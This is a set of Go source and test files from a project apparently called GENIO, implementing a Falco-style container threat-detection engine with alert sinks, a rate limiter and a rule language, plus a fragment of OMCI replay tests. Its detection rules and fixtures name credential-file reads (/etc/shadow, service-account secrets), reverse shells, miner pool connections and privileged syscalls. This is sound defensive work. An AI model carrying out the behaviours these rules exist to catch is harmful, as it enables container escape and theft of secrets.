	if err := olt.Activate(onu); err != nil {
		t.Fatal(err)
	}
	if err := olt.SendOMCI("onu-1", OMCIReboot, ""); err != nil {
		t.Fatal(err)
	}
	// Replay the captured signed message verbatim.
	msg := onu.OMCILog().Executed[0]
	if err := olt.InjectOMCI(msg); !errors.Is(err, ErrOMCIReplayed) {
		t.Fatalf("err = %v, want ErrOMCIReplayed", err)
	}
}

func TestOMCIWrongTarget(t *testing.T) {
	olt, ca := newOLT(t, ModeAuthenticated)
	onu1 := issuedONU(t, ca, "onu-1")
	onu2 := issuedONU(t, ca, "onu-2")
	if err := olt.Activate(onu1); err != nil {
		t.Fatal(err)
	}
	if err := olt.Activate(onu2); err != nil {
		t.Fatal(err)
	}
	if err := olt.SendOMCI("onu-1", OMCIReboot, ""); err != nil {
		t.Fatal(err)
	}
	// Cross-deliver onu-1's signed message to onu-2.
	msg := onu1.OMCILog().Executed[0]
	msg2 := msg
	msg2.Serial = "onu-2" // re-addressing invalidates the signature
	if err := olt.InjectOMCI(msg2); !errors.Is(err, ErrOMCIUnsigned) {
		t.Fatalf("err = %v, want ErrOMCIUnsigned", err)
	}
}

func TestOMCIUnknownONU(t *testing.T) {
	olt, _ := newOLT(t, ModeAuthenticated)
	if err := olt.SendOMCI("ghost", OMCIReboot, ""); !errors.Is(err, ErrNotActivated) {
		t.Fatalf("err = %v, want ErrNotActivated", err)
	}
}

func TestOMCIActionString(t *testing.T) {
	if OMCIRotateKey.String() != "rotate-key" || OMCIAction(9).String() != "omci(9)" {
		t.Fatal("OMCIAction.String mismatch")
	}
}
