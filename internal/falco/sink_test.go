package falco

import (
	"testing"

	"genio/internal/trace"
)

func TestMemorySinkCollects(t *testing.T) {
	e := NewEngine(DefaultRules())
	sink := &MemorySink{}
	alerts := e.ConsumeAllTo(trace.ReverseShellTrace("web", "acme"), sink)
	if len(alerts) == 0 {
		t.Fatal("no alerts raised")
	}
	if got := len(sink.Alerts()); got != len(alerts) {
		t.Fatalf("sink received %d, want %d", got, len(alerts))
	}
}

func TestSinkFuncAdapter(t *testing.T) {
	var count int
	e := NewEngine(DefaultRules())
	e.ConsumeAllTo(trace.CryptominerTrace("m", "t"), SinkFunc(func(Alert) { count++ }))
	if count == 0 {
		t.Fatal("SinkFunc never called")
	}
}

func TestRateLimiterCapsPerRule(t *testing.T) {
	inner := &MemorySink{}
	rl := NewRateLimiter(inner, 3)
	e := NewEngine(DefaultRules())
	// A miner making 20 pool connections fires unexpected-egress 20x.
	b := trace.NewBuilder("miner", "t")
	b.Add(trace.EventExec, "runc", "/usr/bin/miner")
	for i := 0; i < 20; i++ {
		b.Add(trace.EventConnect, "miner", "pool.minexmr.example:4444")
	}
	raised := e.ConsumeAllTo(b.Events(), rl)
	if len(raised) != 20 {
		t.Fatalf("raised = %d, want 20", len(raised))
	}
	if got := len(inner.Alerts()); got != 3 {
		t.Fatalf("forwarded = %d, want 3 (rate limited)", got)
	}
	suppressed := rl.Tick()
	if suppressed["unexpected-egress"] != 17 {
		t.Fatalf("suppressed = %v, want 17", suppressed)
	}
}

func TestRateLimiterWindowReset(t *testing.T) {
	inner := &MemorySink{}
	rl := NewRateLimiter(inner, 1)
	a := Alert{Rule: "r", Priority: PriorityNotice}
	rl.Emit(a)
	rl.Emit(a) // suppressed
	if len(inner.Alerts()) != 1 {
		t.Fatalf("forwarded = %d", len(inner.Alerts()))
	}
	rl.Tick()
	rl.Emit(a) // new window, forwarded again
	if len(inner.Alerts()) != 2 {
		t.Fatalf("forwarded after reset = %d", len(inner.Alerts()))
	}
}

func TestRateLimiterIsPerRule(t *testing.T) {
	inner := &MemorySink{}
	rl := NewRateLimiter(inner, 1)
	rl.Emit(Alert{Rule: "a"})
	rl.Emit(Alert{Rule: "b"}) // different rule, own budget
	rl.Emit(Alert{Rule: "a"}) // suppressed
	if got := len(inner.Alerts()); got != 2 {
		t.Fatalf("forwarded = %d, want 2", got)
	}
}

func TestCriticalAlertsStillVisibleUnderRateLimit(t *testing.T) {
	// The limiter throttles repeats, not first occurrences: an attack's
	// distinct critical rules all reach the operator.
	inner := &MemorySink{}
	rl := NewRateLimiter(inner, 1)
	e := NewEngine(DefaultRules())
	e.ConsumeAllTo(trace.ReverseShellTrace("web", "acme"), rl)
	rules := map[string]bool{}
	for _, a := range inner.Alerts() {
		rules[a.Rule] = true
	}
	for _, want := range []string{"shell-in-container", "sensitive-file-read", "unexpected-egress"} {
		if !rules[want] {
			t.Errorf("rule %s throttled away entirely", want)
		}
	}
}
