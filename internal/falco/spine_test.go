package falco

import (
	"sync"
	"testing"

	"genio/internal/events"
	"genio/internal/trace"
)

// countingSink tallies per-rule deliveries; swap() closes a counting
// window atomically with the limiter's Tick by sharing its caller's
// locking discipline (the test ticks and swaps back to back with no
// emitters mid-window — exactness is asserted on totals instead).
type countingSink struct {
	mu     sync.Mutex
	counts map[string]int
	total  int
}

func newCountingSink() *countingSink { return &countingSink{counts: map[string]int{}} }

func (c *countingSink) Emit(a Alert) {
	c.mu.Lock()
	c.counts[a.Rule]++
	c.total++
	c.mu.Unlock()
}

func (c *countingSink) snapshotTotal() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.total
}

// TestRateLimiterConcurrentEmitTickExact is the -race regression for the
// limiter: hammer Emit from many goroutines while Tick concurrently
// closes windows, then check the books balance exactly — every emitted
// alert was either forwarded or counted suppressed, no double counting,
// no losses.
func TestRateLimiterConcurrentEmitTickExact(t *testing.T) {
	inner := newCountingSink()
	const perRule = 5
	rl := NewRateLimiter(inner, perRule)

	const emitters = 8
	const perEmitter = 500
	rules := []string{"egress", "shell", "mount"}

	suppressedTotal := 0
	var suppMu sync.Mutex

	var emitWG, tickWG sync.WaitGroup
	stop := make(chan struct{})
	tickWG.Add(1)
	go func() { // concurrent ticker
		defer tickWG.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			win := rl.Tick()
			suppMu.Lock()
			for _, n := range win {
				suppressedTotal += n
			}
			suppMu.Unlock()
		}
	}()

	for g := 0; g < emitters; g++ {
		g := g
		emitWG.Add(1)
		go func() {
			defer emitWG.Done()
			for i := 0; i < perEmitter; i++ {
				rl.Emit(Alert{Rule: rules[(g+i)%len(rules)]})
			}
		}()
	}

	emitWG.Wait()
	close(stop)
	tickWG.Wait()

	// Close the final window.
	final := rl.Tick()
	suppMu.Lock()
	for _, n := range final {
		suppressedTotal += n
	}
	suppMu.Unlock()

	forwarded := inner.snapshotTotal()
	emitted := emitters * perEmitter
	if forwarded+suppressedTotal != emitted {
		t.Fatalf("accounting leak: forwarded %d + suppressed %d != emitted %d",
			forwarded, suppressedTotal, emitted)
	}
	if forwarded == 0 || suppressedTotal == 0 {
		t.Fatalf("degenerate run: forwarded=%d suppressed=%d", forwarded, suppressedTotal)
	}
}

// TestRateLimiterWindowBoundaryExact: with no concurrent ticker, the
// wrapped sink sees at most perRule alerts per rule between two Ticks —
// admission and forwarding are one critical section, so a Tick can never
// strand an admitted-but-undelivered alert across the boundary.
func TestRateLimiterWindowBoundaryExact(t *testing.T) {
	inner := newCountingSink()
	const perRule = 3
	rl := NewRateLimiter(inner, perRule)
	for window := 0; window < 50; window++ {
		var wg sync.WaitGroup
		for g := 0; g < 4; g++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for i := 0; i < 20; i++ {
					rl.Emit(Alert{Rule: "noisy"})
				}
			}()
		}
		wg.Wait()
		suppressed := rl.Tick()["noisy"]
		inner.mu.Lock()
		forwarded := inner.counts["noisy"]
		inner.counts["noisy"] = 0
		inner.mu.Unlock()
		if forwarded != perRule {
			t.Fatalf("window %d: forwarded %d, want exactly %d", window, forwarded, perRule)
		}
		if forwarded+suppressed != 80 {
			t.Fatalf("window %d: forwarded %d + suppressed %d != 80 emitted", window, forwarded, suppressed)
		}
	}
}

func TestSpineSinkPublishesAlerts(t *testing.T) {
	s := events.NewSpine()
	defer s.Close()
	var mu sync.Mutex
	var got []Alert
	if _, err := s.Subscribe("alerts", []events.Topic{events.TopicFalcoAlert}, func(b []events.Event) {
		mu.Lock()
		for _, e := range b {
			if a, ok := e.Payload.(Alert); ok {
				got = append(got, a)
			}
		}
		mu.Unlock()
	}); err != nil {
		t.Fatal(err)
	}
	e := NewEngine(DefaultRules())
	raised := e.ConsumeAllTo(trace.ReverseShellTrace("web", "acme"), SpineSink(s))
	if len(raised) == 0 {
		t.Fatal("no alerts raised")
	}
	s.Flush()
	mu.Lock()
	defer mu.Unlock()
	if len(got) != len(raised) {
		t.Fatalf("spine delivered %d alerts, engine raised %d", len(got), len(raised))
	}
	for _, a := range got {
		if a.Event.Workload != "web" {
			t.Fatalf("alert for wrong workload: %+v", a)
		}
	}
}

// TestRateLimiterAsSpineMiddleware: the limiter filters at publish time
// with exact suppressed accounting, and non-alert payloads pass through.
func TestRateLimiterAsSpineMiddleware(t *testing.T) {
	s := events.NewSpine()
	defer s.Close()
	rl := NewRateLimiter(nil, 2)
	s.Use(events.TopicFalcoAlert, rl.Middleware())
	count := 0
	var mu sync.Mutex
	if _, err := s.Subscribe("c", []events.Topic{events.TopicFalcoAlert}, func(b []events.Event) {
		mu.Lock()
		count += len(b)
		mu.Unlock()
	}); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 10; i++ {
		if err := s.Publish(events.Event{Topic: events.TopicFalcoAlert, Key: "w",
			Payload: Alert{Rule: "egress"}}); err != nil {
			t.Fatal(err)
		}
	}
	// A non-alert payload on the same topic is not throttled.
	if err := s.Publish(events.Event{Topic: events.TopicFalcoAlert, Key: "w", Payload: "control"}); err != nil {
		t.Fatal(err)
	}
	s.Flush()
	mu.Lock()
	got := count
	mu.Unlock()
	if got != 3 { // 2 admitted alerts + 1 control payload
		t.Fatalf("delivered %d events, want 3", got)
	}
	if sup := rl.Suppressed()["egress"]; sup != 8 {
		t.Fatalf("suppressed = %d, want 8", sup)
	}
	st := s.Stats()[events.TopicFalcoAlert]
	if st.Filtered != 8 || st.Published != 3 {
		t.Fatalf("topic stats = %+v, want filtered=8 published=3", st)
	}
}
