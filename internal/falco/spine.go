package falco

// Event-spine integration: detection output leaves the engine through
// Sinks, and the platform's unified telemetry backbone is just another
// sink. SpineSink publishes alerts onto the falco.alert topic keyed by
// workload; RateLimiter.Middleware moves the Lesson-8 alert-fatigue
// control from the sink chain into the spine's publish path, so every
// subscriber — not one wrapped sink — benefits from the budget.

import "genio/internal/events"

// SpineSink returns a Sink publishing every emitted alert onto the spine
// as TopicFalcoAlert, keyed by workload (alerts for one workload keep
// their order; workloads spread across shards). Publish errors after
// spine close are dropped: detection history already lives in the
// engine's own alert log.
func SpineSink(s *events.Spine) Sink {
	return SinkFunc(func(a Alert) {
		_ = s.Publish(events.Event{
			Topic: events.TopicFalcoAlert, Key: a.Event.Workload, AtMs: a.AtMs, Payload: a,
		})
	})
}

// Middleware adapts the rate limiter into spine middleware for the
// falco.alert topic: alerts over a rule's window budget are filtered at
// publish time with the limiter's exact suppressed accounting
// (Tick/Suppressed). Non-alert payloads pass through untouched. Register
// with spine.Use(events.TopicFalcoAlert, rl.Middleware()).
//
// Use a limiter as EITHER spine middleware OR a sink wrapper, never
// both: Emit holds the limiter's lock while forwarding, so a limiter
// wrapping a SpineSink that publishes through this same middleware
// deadlocks on its own lock (and would double-charge the budget even
// if it did not).
func (r *RateLimiter) Middleware() events.Middleware {
	return func(e *events.Event) bool {
		a, ok := e.Payload.(Alert)
		if !ok {
			return true
		}
		r.mu.Lock()
		defer r.mu.Unlock()
		return r.admitLocked(a.Rule)
	}
}
