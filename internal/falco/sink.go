package falco

// Alert sinks: Falco forwards alerts to output channels (files, syslog,
// chat, SIEM). Operationally the channel is where alert fatigue happens, so
// GENIO's deployment wraps sinks with per-rule rate limiting and burst
// deduplication — the second half of the Lesson-8 tuning story: even after
// rule exceptions, a noisy rule must not page a human hundreds of times.

import (
	"sync"
)

// Sink receives emitted alerts.
type Sink interface {
	Emit(a Alert)
}

// SinkFunc adapts a function to Sink.
type SinkFunc func(a Alert)

// Emit calls the wrapped function.
func (f SinkFunc) Emit(a Alert) { f(a) }

// MemorySink buffers alerts for inspection (tests, dashboards).
type MemorySink struct {
	mu     sync.Mutex
	alerts []Alert
}

// Emit stores the alert.
func (m *MemorySink) Emit(a Alert) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.alerts = append(m.alerts, a)
}

// Alerts returns a copy of buffered alerts.
func (m *MemorySink) Alerts() []Alert {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]Alert, len(m.alerts))
	copy(out, m.alerts)
	return out
}

// RateLimiter wraps a sink with a per-rule token budget over a logical
// window. The window advances via Tick (the engine host calls it per
// aggregation interval), keeping the limiter deterministic for tests and
// simulations instead of depending on wall-clock time.
//
// Emit and Tick are safe to call concurrently, and the accounting is
// exact with respect to window boundaries: an alert admitted in window N
// reaches the wrapped sink before Tick closes window N (admission and
// forwarding happen in one critical section), so the wrapped sink never
// observes more than perRule alerts for a rule between two Ticks, and
// every emitted alert is counted exactly once — forwarded or suppressed.
//
// The exactness has a price: next.Emit runs while the limiter's lock is
// held. The wrapped sink must not call back into the limiter — in
// particular, never wrap a SpineSink whose spine has this same
// limiter's Middleware registered on the alert topic (self-deadlock) —
// and a sink that blocks (e.g. a Block-policy spine under backpressure)
// stalls Tick, Suppressed, and other rules' Emits for the duration.
// Pick ONE integration per limiter: sink wrapper or spine middleware.
type RateLimiter struct {
	next Sink
	// perRule is the max alerts forwarded per rule per window.
	perRule int

	mu         sync.Mutex
	counts     map[string]int
	suppressed map[string]int
}

// NewRateLimiter creates a limiter forwarding at most perRule alerts per
// rule per window to next. A nil next discards admitted alerts — useful
// when the limiter is used purely as spine middleware (see Middleware).
func NewRateLimiter(next Sink, perRule int) *RateLimiter {
	return &RateLimiter{
		next: next, perRule: perRule,
		counts: make(map[string]int), suppressed: make(map[string]int),
	}
}

// admit spends one token from the rule's window budget, counting the
// alert as suppressed when the budget is gone. Callers hold r.mu.
func (r *RateLimiter) admitLocked(rule string) bool {
	if r.counts[rule] >= r.perRule {
		r.suppressed[rule]++
		return false
	}
	r.counts[rule]++
	return true
}

// Emit forwards the alert unless the rule's budget for this window is
// spent; a summary of suppressed counts is available via Tick and
// Suppressed.
func (r *RateLimiter) Emit(a Alert) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if !r.admitLocked(a.Rule) {
		return
	}
	if r.next != nil {
		r.next.Emit(a)
	}
}

// Tick advances the window, resetting budgets. It returns the number of
// alerts suppressed in the closed window per rule; the returned map is
// detached (safe for the caller to keep).
func (r *RateLimiter) Tick() map[string]int {
	r.mu.Lock()
	defer r.mu.Unlock()
	out := r.suppressed
	r.counts = make(map[string]int)
	r.suppressed = make(map[string]int)
	return out
}

// Suppressed returns a copy of the current window's per-rule suppressed
// counts without closing the window.
func (r *RateLimiter) Suppressed() map[string]int {
	r.mu.Lock()
	defer r.mu.Unlock()
	out := make(map[string]int, len(r.suppressed))
	for k, v := range r.suppressed {
		out[k] = v
	}
	return out
}
