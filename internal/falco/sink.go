package falco

// Alert sinks: Falco forwards alerts to output channels (files, syslog,
// chat, SIEM). Operationally the channel is where alert fatigue happens, so
// GENIO's deployment wraps sinks with per-rule rate limiting and burst
// deduplication — the second half of the Lesson-8 tuning story: even after
// rule exceptions, a noisy rule must not page a human hundreds of times.

import (
	"sync"
)

// Sink receives emitted alerts.
type Sink interface {
	Emit(a Alert)
}

// SinkFunc adapts a function to Sink.
type SinkFunc func(a Alert)

// Emit calls the wrapped function.
func (f SinkFunc) Emit(a Alert) { f(a) }

// MemorySink buffers alerts for inspection (tests, dashboards).
type MemorySink struct {
	mu     sync.Mutex
	alerts []Alert
}

// Emit stores the alert.
func (m *MemorySink) Emit(a Alert) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.alerts = append(m.alerts, a)
}

// Alerts returns a copy of buffered alerts.
func (m *MemorySink) Alerts() []Alert {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]Alert, len(m.alerts))
	copy(out, m.alerts)
	return out
}

// RateLimiter wraps a sink with a per-rule token budget over a logical
// window. The window advances via Tick (the engine host calls it per
// aggregation interval), keeping the limiter deterministic for tests and
// simulations instead of depending on wall-clock time.
type RateLimiter struct {
	next Sink
	// PerRulePerWindow is the max alerts forwarded per rule per window.
	perRule int

	mu         sync.Mutex
	counts     map[string]int
	suppressed map[string]int
}

// NewRateLimiter creates a limiter forwarding at most perRule alerts per
// rule per window to next.
func NewRateLimiter(next Sink, perRule int) *RateLimiter {
	return &RateLimiter{
		next: next, perRule: perRule,
		counts: make(map[string]int), suppressed: make(map[string]int),
	}
}

// Emit forwards the alert unless the rule's budget for this window is
// spent; a summary of suppressed counts is available via Suppressed.
func (r *RateLimiter) Emit(a Alert) {
	r.mu.Lock()
	over := r.counts[a.Rule] >= r.perRule
	if over {
		r.suppressed[a.Rule]++
	} else {
		r.counts[a.Rule]++
	}
	r.mu.Unlock()
	if !over {
		r.next.Emit(a)
	}
}

// Tick advances the window, resetting budgets. It returns the number of
// alerts suppressed in the closed window per rule.
func (r *RateLimiter) Tick() map[string]int {
	r.mu.Lock()
	defer r.mu.Unlock()
	out := r.suppressed
	r.counts = make(map[string]int)
	r.suppressed = make(map[string]int)
	return out
}
