// Package falco implements runtime threat detection for GENIO (M18, the
// Falco role): a rule engine evaluating conditions over the syscall-level
// event stream, producing prioritized alerts without blocking execution —
// detection, not enforcement, exactly as the paper distinguishes it from
// sandboxing.
//
// Rules carry condition functions with optional stateful context (e.g.
// "shell spawned by a non-shell parent", "egress to a non-allowlisted
// address"), and an exceptions list used for tuning. The Lesson-8
// experiment measures false-positive rates before and after tuning on
// identical traffic.
package falco

import (
	"fmt"
	"sort"
	"strings"
	"sync"

	"genio/internal/trace"
)

// Priority ranks alerts, following Falco's levels.
type Priority int

// Priorities.
const (
	PriorityNotice Priority = iota + 1
	PriorityWarning
	PriorityCritical
)

var priorityNames = map[Priority]string{
	PriorityNotice:   "notice",
	PriorityWarning:  "warning",
	PriorityCritical: "critical",
}

// String names the priority.
func (p Priority) String() string {
	if n, ok := priorityNames[p]; ok {
		return n
	}
	return fmt.Sprintf("priority(%d)", int(p))
}

// Alert is one detection.
type Alert struct {
	Rule     string      `json:"rule"`
	Priority Priority    `json:"priority"`
	Event    trace.Event `json:"event"`
	Output   string      `json:"output"`
	// AtMs is the engine-clock time of the detection (zero unless a time
	// source is installed with SetTimeSource).
	AtMs int64 `json:"atMs,omitempty"`
}

// Condition evaluates one event in the context of the events seen so far
// for the same workload (state enables parent-process style conditions).
type Condition func(e trace.Event, history []trace.Event) bool

// Rule is one detection rule.
type Rule struct {
	Name     string
	Priority Priority
	Cond     Condition
	// Exceptions suppress matches whose event target has one of these
	// prefixes — the tuning mechanism of Lesson 8.
	Exceptions []string
}

func (r Rule) excepted(e trace.Event) bool {
	for _, ex := range r.Exceptions {
		if strings.HasPrefix(e.Target, ex) {
			return true
		}
	}
	return false
}

// Engine evaluates rules over event streams. Safe for concurrent use.
type Engine struct {
	mu      sync.Mutex
	rules   []Rule
	history map[string][]trace.Event // per-workload context window
	alerts  []Alert
	// historyLimit bounds per-workload context retention.
	historyLimit int
	// now, when set, timestamps alerts (AtMs). Simulations inject a
	// virtual clock; nil leaves stamps zero.
	now func() int64
}

// NewEngine creates an engine with the given rules.
func NewEngine(rules []Rule) *Engine {
	return &Engine{
		rules:        append([]Rule(nil), rules...),
		history:      make(map[string][]trace.Event),
		historyLimit: 256,
	}
}

// SetTimeSource installs a millisecond time source used to stamp alerts.
func (e *Engine) SetTimeSource(now func() int64) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.now = now
}

// SetExceptions replaces the exceptions of a named rule (tuning).
func (e *Engine) SetExceptions(ruleName string, exceptions []string) error {
	e.mu.Lock()
	defer e.mu.Unlock()
	for i := range e.rules {
		if e.rules[i].Name == ruleName {
			e.rules[i].Exceptions = append([]string(nil), exceptions...)
			return nil
		}
	}
	return fmt.Errorf("falco: unknown rule %q", ruleName)
}

// Consume feeds one event through every rule, returning alerts raised.
func (e *Engine) Consume(ev trace.Event) []Alert {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.consumeLocked(ev)
}

// consumeLocked is Consume's body; callers hold e.mu.
func (e *Engine) consumeLocked(ev trace.Event) []Alert {
	hist := e.history[ev.Workload]
	var atMs int64
	if e.now != nil {
		atMs = e.now()
	}
	var raised []Alert
	for _, r := range e.rules {
		if r.Cond(ev, hist) && !r.excepted(ev) {
			a := Alert{
				Rule: r.Name, Priority: r.Priority, Event: ev, AtMs: atMs,
				Output: fmt.Sprintf("%s: workload=%s process=%s %s=%s",
					r.Name, ev.Workload, ev.Process, ev.Type, ev.Target),
			}
			raised = append(raised, a)
			e.alerts = append(e.alerts, a)
		}
	}
	hist = append(hist, ev)
	if len(hist) > e.historyLimit {
		hist = hist[len(hist)-e.historyLimit:]
	}
	e.history[ev.Workload] = hist
	return raised
}

// ConsumeAll feeds a whole trace, returning all alerts raised. The engine
// lock is taken once for the batch rather than per event, so full traces
// are cheap on the runtime hot path.
func (e *Engine) ConsumeAll(events []trace.Event) []Alert {
	e.mu.Lock()
	defer e.mu.Unlock()
	var out []Alert
	for _, ev := range events {
		out = append(out, e.consumeLocked(ev)...)
	}
	return out
}

// ConsumeAllTo feeds a trace and forwards every raised alert to the sink
// (which may rate-limit or fan out). It returns the alerts raised.
func (e *Engine) ConsumeAllTo(events []trace.Event, s Sink) []Alert {
	alerts := e.ConsumeAll(events)
	for _, a := range alerts {
		s.Emit(a)
	}
	return alerts
}

// Alerts returns a copy of all alerts raised so far, critical first.
func (e *Engine) Alerts() []Alert {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := make([]Alert, len(e.alerts))
	copy(out, e.alerts)
	sort.SliceStable(out, func(i, j int) bool { return out[i].Priority > out[j].Priority })
	return out
}

// Reset clears history and alerts (between experiment runs).
func (e *Engine) Reset() {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.history = make(map[string][]trace.Event)
	e.alerts = nil
}

// DefaultRules returns the stock detection set covering the behaviours the
// paper lists: unexpected shell execution, unauthorized file access, and
// unusual network connections, plus escape-adjacent syscall use.
func DefaultRules() []Rule {
	return []Rule{
		{
			Name:     "shell-in-container",
			Priority: PriorityCritical,
			Cond: func(e trace.Event, hist []trace.Event) bool {
				if e.Type != trace.EventExec {
					return false
				}
				base := e.Target[strings.LastIndex(e.Target, "/")+1:]
				if base != "bash" && base != "sh" && base != "zsh" {
					return false
				}
				// Only shells spawned after startup (exec by an already-
				// running process) are suspicious; the initial runc exec
				// is the container entrypoint.
				return len(hist) > 0
			},
		},
		{
			Name:     "sensitive-file-read",
			Priority: PriorityCritical,
			Cond: func(e trace.Event, _ []trace.Event) bool {
				if e.Type != trace.EventFileOpen {
					return false
				}
				for _, p := range []string{"/etc/shadow", "/var/run/secrets/", "/host/"} {
					if strings.HasPrefix(e.Target, p) {
						return true
					}
				}
				return false
			},
		},
		{
			Name:     "unexpected-egress",
			Priority: PriorityWarning,
			Cond: func(e trace.Event, _ []trace.Event) bool {
				if e.Type != trace.EventConnect {
					return false
				}
				// Internal destinations are expected; anything else is
				// flagged until tuned with an allowlist.
				return !strings.HasSuffix(hostOf(e.Target), ".internal")
			},
		},
		{
			Name:     "privileged-syscall",
			Priority: PriorityCritical,
			Cond: func(e trace.Event, _ []trace.Event) bool {
				if e.Type != trace.EventSyscall {
					return false
				}
				return e.Target == "mount" || e.Target == "ptrace" || e.Target == "init_module"
			},
		},
		{
			Name:     "write-outside-app",
			Priority: PriorityNotice,
			Cond: func(e trace.Event, _ []trace.Event) bool {
				if e.Type != trace.EventFileWrite {
					return false
				}
				for _, p := range []string{"/app/", "/out/", "/tmp/"} {
					if strings.HasPrefix(e.Target, p) {
						return false
					}
				}
				return true
			},
		},
	}
}

func hostOf(target string) string {
	if i := strings.LastIndex(target, ":"); i >= 0 {
		return target[:i]
	}
	return target
}
