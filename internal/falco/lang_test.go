package falco

import (
	"testing"

	"genio/internal/trace"
)

func evalCond(t *testing.T, src string, e trace.Event, hist []trace.Event) bool {
	t.Helper()
	c, err := ParseCondition(src)
	if err != nil {
		t.Fatalf("ParseCondition(%q): %v", src, err)
	}
	return c(e, hist)
}

func TestSimpleEquality(t *testing.T) {
	e := trace.Event{Type: trace.EventExec, Target: "/bin/bash", Process: "server"}
	if !evalCond(t, `evt.type = exec`, e, nil) {
		t.Fatal("equality failed")
	}
	if evalCond(t, `evt.type = connect`, e, nil) {
		t.Fatal("wrong type matched")
	}
	if !evalCond(t, `proc.name != runc`, e, nil) {
		t.Fatal("inequality failed")
	}
}

func TestStringOperators(t *testing.T) {
	e := trace.Event{Type: trace.EventFileOpen, Target: "/var/run/secrets/api-token"}
	cases := map[string]bool{
		`evt.target startswith /var/run/`: true,
		`evt.target startswith /etc/`:     false,
		`evt.target endswith api-token`:   true,
		`evt.target endswith .log`:        false,
		`evt.target contains secrets`:     true,
		`evt.target contains shadow`:      false,
	}
	for src, want := range cases {
		if got := evalCond(t, src, e, nil); got != want {
			t.Errorf("%q = %v, want %v", src, got, want)
		}
	}
}

func TestInOperator(t *testing.T) {
	e := trace.Event{Type: trace.EventSyscall, Target: "mount"}
	if !evalCond(t, `evt.target in (mount, ptrace, init_module)`, e, nil) {
		t.Fatal("in failed")
	}
	e.Target = "read"
	if evalCond(t, `evt.target in (mount, ptrace, init_module)`, e, nil) {
		t.Fatal("in matched non-member")
	}
}

func TestBooleanComposition(t *testing.T) {
	e := trace.Event{Type: trace.EventConnect, Target: "203.0.113.7:4444", Tenant: "acme"}
	src := `evt.type = connect and not evt.target contains .internal and tenant = acme`
	if !evalCond(t, src, e, nil) {
		t.Fatal("composite condition failed")
	}
	e.Target = "db.internal:5432"
	if evalCond(t, src, e, nil) {
		t.Fatal("negation failed")
	}
}

func TestOrAndPrecedence(t *testing.T) {
	// a or b and c must parse as a or (b and c).
	e := trace.Event{Type: trace.EventExec, Target: "/bin/bash"}
	src := `evt.type = exec or evt.type = connect and evt.target = nothing`
	if !evalCond(t, src, e, nil) {
		t.Fatal("precedence: left arm of or should satisfy")
	}
	// With explicit parens forcing (a or b) and c -> false.
	src2 := `(evt.type = exec or evt.type = connect) and evt.target = nothing`
	if evalCond(t, src2, e, nil) {
		t.Fatal("parenthesised grouping ignored")
	}
}

func TestQuotedValues(t *testing.T) {
	e := trace.Event{Type: trace.EventFileWrite, Target: "/my dir/file"}
	if !evalCond(t, `evt.target startswith "/my dir/"`, e, nil) {
		t.Fatal("quoted value with space failed")
	}
}

func TestFirstExecPredicate(t *testing.T) {
	entry := trace.Event{Type: trace.EventExec, Target: "/bin/sh"}
	if !evalCond(t, `evt.first_exec`, entry, nil) {
		t.Fatal("first exec not recognized")
	}
	hist := []trace.Event{{Type: trace.EventExec, Target: "/app/server"}}
	if evalCond(t, `evt.first_exec`, entry, hist) {
		t.Fatal("second exec treated as first")
	}
	// Non-exec event is never first_exec.
	open := trace.Event{Type: trace.EventFileOpen, Target: "/x"}
	if evalCond(t, `evt.first_exec`, open, nil) {
		t.Fatal("non-exec matched first_exec")
	}
}

func TestParseErrors(t *testing.T) {
	for _, src := range []string{
		``,
		`evt.type`,
		`evt.type =`,
		`evt.type ~ exec`,
		`bogus.field = x`,
		`evt.type = exec and`,
		`(evt.type = exec`,
		`evt.type = exec extra`,
		`evt.target in (a, b`,
		`evt.type in ()`,
		`evt.type = exec or or evt.type = connect`,
	} {
		if _, err := ParseCondition(src); err == nil {
			t.Errorf("ParseCondition(%q) succeeded, want error", src)
		}
	}
}

func TestParseRule(t *testing.T) {
	r, err := ParseRule("test-rule", PriorityWarning, `evt.type = exec`, "/usr/bin/")
	if err != nil {
		t.Fatal(err)
	}
	if r.Name != "test-rule" || r.Priority != PriorityWarning || len(r.Exceptions) != 1 {
		t.Fatalf("rule = %+v", r)
	}
	if _, err := ParseRule("bad", PriorityNotice, `nope`); err == nil {
		t.Fatal("bad condition accepted")
	}
}

// TestTextRulesEquivalentToDefault runs both rule sets over the fixture
// traces and compares the alert profiles.
func TestTextRulesEquivalentToDefault(t *testing.T) {
	textRules, err := TextRules()
	if err != nil {
		t.Fatalf("TextRules: %v", err)
	}
	traces := [][]trace.Event{
		trace.BenignWebTrace("w1", "t", 5),
		trace.BenignBatchTrace("w2", "t", 5),
		trace.ContainerEscapeTrace("w3", "t"),
		trace.ReverseShellTrace("w4", "t"),
		trace.CryptominerTrace("w5", "t"),
		trace.DataExfiltrationTrace("w6", "t"),
	}
	profile := func(rules []Rule) map[string]int {
		e := NewEngine(rules)
		out := map[string]int{}
		for _, tr := range traces {
			for _, a := range e.ConsumeAll(tr) {
				out[a.Rule]++
			}
		}
		return out
	}
	native := profile(DefaultRules())
	text := profile(textRules)
	if len(native) != len(text) {
		t.Fatalf("rule fire sets differ: native=%v text=%v", native, text)
	}
	for rule, n := range native {
		if text[rule] != n {
			t.Errorf("rule %s: native fired %d, text fired %d", rule, n, text[rule])
		}
	}
}

func TestMustParseConditionPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("MustParseCondition did not panic on bad input")
		}
	}()
	MustParseCondition(`garbage ~`)
}

func TestEngineWithTextRules(t *testing.T) {
	rules, err := TextRules()
	if err != nil {
		t.Fatal(err)
	}
	e := NewEngine(rules)
	alerts := e.ConsumeAll(trace.ReverseShellTrace("web", "acme"))
	found := map[string]bool{}
	for _, a := range alerts {
		found[a.Rule] = true
	}
	if !found["shell-in-container"] || !found["sensitive-file-read"] || !found["unexpected-egress"] {
		t.Fatalf("text rules missed detections: %v", found)
	}
}
