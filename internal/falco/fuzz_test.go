package falco

import (
	"testing"

	"genio/internal/trace"
)

